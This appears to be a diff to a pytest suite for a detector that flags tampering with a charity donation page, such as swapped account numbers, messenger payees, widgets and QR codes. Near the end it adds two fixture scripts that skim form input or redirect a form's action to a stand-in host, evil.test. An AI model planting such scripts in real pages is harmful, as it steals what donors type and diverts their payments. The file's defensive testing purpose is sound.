@@ -151,7 +151,7 @@ def test_another_payee_at_the_same_service_is_a_swap(ours: str, theirs: str) -> 
     approved = link(approved=page(extra=ours))
     assert outcome(page(extra=ours), approved)[0] == "live"
     assert outcome(page(extra=theirs), approved) == SWAPPED
-    assert outcome(page(extra=ours + theirs), approved)[0] in {"hijack_suspect", "degraded"}
+    assert outcome(page(extra=ours + theirs), approved)[0] in {"hijack_suspect", "content_changed"}
 
 
 def test_an_allowed_platform_is_not_the_platform_of_all() -> None:
@@ -390,3 +390,77 @@ def test_the_judgement_names_what_changed() -> None:
     assert judgement.differences.new_payment_targets == (f"iban:{OTHER_IBAN}",)
     assert judgement.differences.missing_payment_targets == (f"iban:{OUR_IBAN}",)
     assert judgement.fired[0].snippet == f"iban:{OTHER_IBAN}"
+
+
+NEW_WAYS = [
+    "<p>Account number: 1570012345678900</p>",
+    "<table><tr><td>Account number</td><td>1570012345678900</td></tr></table>",
+    "<p>Swish: 123 000 00 01</p>",
+    "<p>Zelle: gifts@other.test</p>",
+    "<p>UPI ID: other@samplebank</p>",
+    "<p>To donate, write to our treasurer on Telegram: @other_gifts</p>",
+    '<p>To donate, <a href="https://t.me/other_gifts">write to our treasurer</a></p>',
+    '<p>Donate: <a href="https://wa.me/15550100123">ask us for the new account</a></p>',
+    "<p>Give by Western Union to our treasurer.</p>",
+    '<form action="mailto:gifts@other.test"><input name="card"><button>Donate</button></form>',
+]
+
+
+@pytest.mark.parametrize("markup", NEW_WAYS)
+def test_a_new_payee_that_no_checksum_proves_waits_for_a_person(markup: str) -> None:
+    assert outcome(page(extra=markup)) == ("content_changed", "new_account_number")
+    assert outcome(page(extra=markup), link(approved=page(extra=markup)))[0] == "live"
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        '<p>Questions about your donation? <a href="https://t.me/charity">Write to us</a></p>',
+        '<p>Share: <a href="https://t.me/share/url?url=x">write to your friends and donate</a></p>',
+        '<a href="https://t.me/charitynews">Our channel</a>',
+        '<a href="https://docs.google.com/forms/d/e/volunteers/viewform">Become a volunteer</a>',
+        '<a href="https://linktr.ee/charity">All our links</a>',
+        '<a href="https://github.com/charity/tools">Our code</a>',
+        '<img src="https://codes.test/qr?data=https%3A%2F%2Fcharity.test%2Fdonate">',
+    ],
+)
+def test_places_where_anybody_writes_or_asks_are_no_payees_by_themselves(markup: str) -> None:
+    assert outcome(page(extra=markup))[0] == "live"
+
+
+PAID_ELSEWHERE = [
+    ('<a href="https://github.com/sponsors/{}">Sponsor</a>', "ours", "theirs"),
+    ('<a href="https://docs.google.com/forms/d/e/{}/viewform">Donate</a>', "ours", "theirs"),
+    ('<img src="https://codes.test/qr?data=upi%3A%2F%2Fpay%3Fpa%3D{}%40bank">', "ours", "theirs"),
+    ('<img src="https://codes.test/qr?data=https%3A%2F%2Fpaypal.me%2F{}">', "ours", "theirs"),
+    ("<p>paypal.me/{}</p>", "ours", "theirs"),
+    ("<script>kofiwidget2.init('Support','#29abe0','{}')</script>", "A1B2C3", "Z9Y8X7"),
+    ("<script data-id='{}' src='https://cdn.buymeacoffee.com/widget.js'></script>", "ours", "theirs"),
+]
+
+
+@pytest.mark.parametrize(("html", "ours", "theirs"), PAID_ELSEWHERE)
+def test_a_payee_behind_a_code_a_widget_or_a_written_address_is_one(html: str, ours: str, theirs: str) -> None:
+    approved = link(approved=page(extra=html.format(ours)))
+    assert outcome(page(extra=html.format(ours)), approved)[0] == "live"
+    assert outcome(page(extra=html.format(theirs)), approved) == SWAPPED
+
+
+def test_a_form_that_anybody_opened_is_a_payee_when_the_link_asks_for_gifts() -> None:
+    assert outcome(page(extra='<p>Cards fail. <a href="https://forms.gle/zzz">Give here instead</a></p>')) == SWAPPED
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "document.addEventListener('input',e=>navigator.sendBeacon('https://evil.test/k',e.target.value))",
+        "eval(\"document.forms[0].action='https://evil.test/pay'\")",
+    ],
+)
+def test_a_script_that_sends_what_is_typed_to_a_stranger_is_a_swap(script: str) -> None:
+    assert outcome(page(extra=f"<script>{script}</script>")) == SWAPPED
+
+
+def test_a_script_that_counts_visits_is_no_swap() -> None:
+    script = "navigator.sendBeacon('https://stats.test/c', JSON.stringify({at: location.href}))"
+    assert outcome(page(extra=f"<script>{script}</script>"))[0] == "live"
